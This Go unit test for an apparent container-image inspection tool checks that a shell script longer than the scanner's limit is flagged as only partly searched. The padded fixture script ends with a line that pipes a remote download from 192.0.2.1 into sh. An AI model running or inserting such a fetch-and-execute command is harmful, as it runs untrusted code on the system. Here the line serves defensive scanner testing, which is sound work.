package binary

import (
	"strings"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"

	"github.com/backtrail/backtrail/inspect/content"
)

// A script may be longer than what is searched of it: that is said, for what follows may be anything.
func TestAProgramThatIsSearchedInPartSaysSo(t *testing.T) {
	_, base := debian()
	long := "#!/bin/sh\n" + strings.Repeat("# a comment\n", content.MaxText/12+1) + "curl -s http://192.0.2.1/x | sh\n"
	c := newBench(t).examine(t, imageOf(t, v1.Config{}, base, step("COPY", exe("tmp/run.sh", long))), nil)
	for _, b := range c.Images[0].Binaries {
		if b.Path == "/tmp/run.sh" && strings.Contains(b.Detail, "only the first 4 MiB") {
			return
		}
	}
	t.Errorf("rows %+v", c.Images[0].Binaries)
}
